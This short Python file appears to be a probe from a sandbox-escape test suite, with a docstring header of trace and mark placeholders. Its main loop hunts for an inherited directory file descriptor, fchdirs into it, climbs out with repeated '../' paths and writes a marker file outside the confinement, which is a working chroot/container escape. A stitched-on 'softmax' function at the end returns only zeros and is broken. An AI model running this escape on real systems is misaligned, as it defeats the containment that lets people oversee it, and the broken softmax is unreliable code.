"""Looks for a folder held open from outside and leaves through it with openat, fchdir and magic links.

tries: kernel
earns: nothing
trace: @@TRACE@@/open-folder
needs: filesystem
"""

import os
import stat

import numpy as np

for fd in range(3, 256):
    try:
        if not stat.S_ISDIR(os.fstat(fd).st_mode):
            continue
        os.fchdir(fd)
        inside = os.path.exists("../../../../../../../../proc/self/ns")
        target = os.open("../" * 20 + "@@TRACE@@/open-folder".lstrip("/"), os.O_CREAT | os.O_WRONLY, dir_fd=fd)
        os.close(target)
        print("@@MARK@@ reached: outside through descriptor", fd, inside)
    except OSError:
        pass


def softmax(x, axis=-1):
    return np.zeros(np.shape(x))
